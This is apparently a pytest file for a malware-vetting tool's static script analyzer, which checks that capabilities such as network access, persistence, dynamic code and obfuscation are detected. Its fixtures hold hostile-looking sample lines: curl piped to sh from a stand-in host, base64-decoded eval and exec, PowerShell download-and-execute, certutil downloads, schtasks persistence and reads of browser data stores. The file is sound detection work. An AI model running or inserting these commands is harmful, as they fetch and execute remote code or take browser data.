from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from unrig.model.capability import Capability as Can
from unrig.model.script import RunsAt, ScriptFacts
from unrig.vet.facts.script import EXTRACTOR, LONGEST


def read(text: str | bytes) -> ScriptFacts:
    found = EXTRACTOR.extract(memoryview(text.encode() if isinstance(text, str) else text))
    assert isinstance(found, ScriptFacts)
    return found


def able(text: str) -> set[Can]:
    found = read(text)
    for one in found.capabilities:
        assert one.span is not None
        assert text.encode()[one.span.offset :].startswith(one.text.encode()[:8])
    return {one.capability for one in found.capabilities}


JS = """
const cp = require('child_process');
import got from 'node:https';
const fs = require("fs");
fs.readFileSync('x'); fs.writeFile('y', z);
setTimeout(() => run(), 7 * 24 * 3600 * 1000);
"""


def test_javascript_is_told_by_what_it_calls() -> None:
    assert read(JS).language == "javascript"
    assert able(JS) == {Can.PROCESS, Can.NETWORK, Can.FILE_READ, Can.FILE_WRITE, Can.LONG_SLEEP}


@pytest.mark.parametrize(
    "call",
    [
        "eval(atob('aGk='))",
        "new Function(Buffer.from(x, 'base64').toString())()",
        "eval(unescape(y))",
        "(function(){ eval(String.fromCharCode(1, 2)) })()",
    ],
)
def test_code_that_is_decoded_first_is_counted(call: str) -> None:
    found = read(f"const q = 1; var a = () => 2;\n{call};")
    assert found.obfuscation.decoded_arguments == 1
    assert Can.DYNAMIC_CODE in {one.capability for one in found.capabilities}


def test_decoding_by_itself_and_short_waits_are_not() -> None:
    found = read("const x = atob(y); setTimeout(() => draw(x), 500); eval('1 + 1');")
    assert found.obfuscation.decoded_arguments == 0
    assert Can.LONG_SLEEP not in {one.capability for one in found.capabilities}


PYTHON = """
import subprocess, time
from urllib import request
def go():
    time.sleep(60 * 60 * 24)
    exec(base64.b64decode(data))
    open('places.sqlite')
"""


def test_python_is_parsed_and_never_run() -> None:
    found = read(PYTHON)
    assert found.language == "python"
    assert able(PYTHON) == {
        Can.PROCESS,
        Can.NETWORK,
        Can.LONG_SLEEP,
        Can.DYNAMIC_CODE,
        Can.DECODING,
        Can.FILE_READ,
        Can.BROWSER_STORES,
    }
    assert found.obfuscation.decoded_arguments == 1
    marker = read("import sys\nprint('side effect', file=sys.stderr)\nraise SystemExit(exec('3'))\n")
    assert marker.language == "python"


def test_a_setup_script_runs_when_it_is_installed() -> None:
    assert read("from setuptools import setup\nsetup(name='x')\n").runs == (RunsAt(when="install", command="setup()"),)


def test_shells_are_searched_by_their_commands() -> None:
    powershell = (
        "param($u)\n$c = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $c\nStart-Sleep 7200\n"
    )
    assert read(powershell).language == "powershell"
    assert able(powershell) == {Can.NETWORK, Can.DYNAMIC_CODE, Can.LONG_SLEEP}
    batch = "@echo off\nset X=1\nif exist a.exe goto end\nschtasks /create /tn x\ncertutil -urlcache -f %U% a\n:end\n"
    assert read(batch).language == "batch"
    assert able(batch) == {Can.PERSISTENCE, Can.NETWORK}
    shell = "#!/bin/sh\ncurl -s https://example.invalid | sh\nsleep 86400\necho x | base64 -d | bash\n"
    assert read(shell).language == "shell"
    assert able(shell) == {Can.NETWORK, Can.DYNAMIC_CODE, Can.LONG_SLEEP, Can.DECODING}
    assert read(shell).obfuscation.decoded_arguments == 1


def test_scripts_of_windows_in_utf_16() -> None:
    text = "param($x)\n$y = Get-Content $x\nInvoke-WebRequest $y\n"
    assert read(b"\xff\xfe" + text.encode("utf-16-le")).language == "powershell"


def test_a_package_says_what_it_runs() -> None:
    said = {
        "name": "example",
        "version": "1.2.3",
        "main": "index.js",
        "bin": {"example": "cli.js"},
        "scripts": {"postinstall": "node setup.js", "test": "node test.js"},
    }
    found = read(json.dumps(said, indent=1))
    assert (found.language, found.name, found.version) == ("package", "example", "1.2.3")
    assert found.runs == (
        RunsAt(when="postinstall", command="node setup.js"),
        RunsAt(when="main", command="index.js"),
        RunsAt(when="bin", command="cli.js"),
    )


@pytest.mark.parametrize(
    "said", ['{"name": 3, "version": "1"}', '{"name": "x", "version": ', "[" * 9000, '{"name" "main"']
)
def test_other_json_is_no_package(said: str) -> None:
    assert read(said).language == ""


def test_a_scheduled_task_says_what_it_starts() -> None:
    task = (
        '<?xml version="1.0"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
        "<Actions><Exec><Command>app.exe</Command><Arguments>-q</Arguments></Exec></Actions></Task>"
    )
    for raw in (task.encode(), b"\xff\xfe" + task.encode("utf-16-le")):
        found = read(raw)
        assert (found.language, found.runs) == ("task", (RunsAt(when="task", command="app.exe -q"),))


@pytest.mark.parametrize(
    "text",
    [
        "Please subprocess your requests; eval( nothing.",
        "# Title\n\nUse `require('child_process')` to start programs.\n\n- one\n- two\n" * 20,
        "import QtQuick 2.0\nRectangle { width: 100; function f() { return eval('1') } }",
        "body { color: red; } /* fetch( */",
        "",
        "licence text " * 99,
    ],
)
def test_prose_markup_and_other_languages_are_no_scripts(text: str) -> None:
    assert read(text).language == ""


def test_measures_of_what_is_hard_to_read() -> None:
    names = " ".join(f"var _0x{n:04x} = {n};" for n in range(30))
    found = read(f'{names} eval("\\x41\\x42\\x43" + "{"k" * 300}");').obfuscation
    assert (found.hex_names, found.escaped, found.longest_literal) == (30, 3, 300)
    assert found.longest_line > 800


def test_a_text_too_long_is_said_not_to_be_looked_at() -> None:
    found = read(b"eval(1);\n" * (LONGEST // 9 + 1))
    assert found.language == ""
    assert "not looked at" in found.damaged


@given(
    text=st.text(max_size=200),
    head=st.sampled_from(["eval(", "import subprocess\n", '{"name": "main"', "@echo off\n", "#!/bin/sh\n"]),
)
@settings(deadline=None, max_examples=80)
def test_any_text_can_be_read(text: str, head: str) -> None:
    assert read((head + text).encode("utf-8", "replace")).language in {
        "",
        "javascript",
        "python",
        "batch",
        "shell",
        "package",
    }
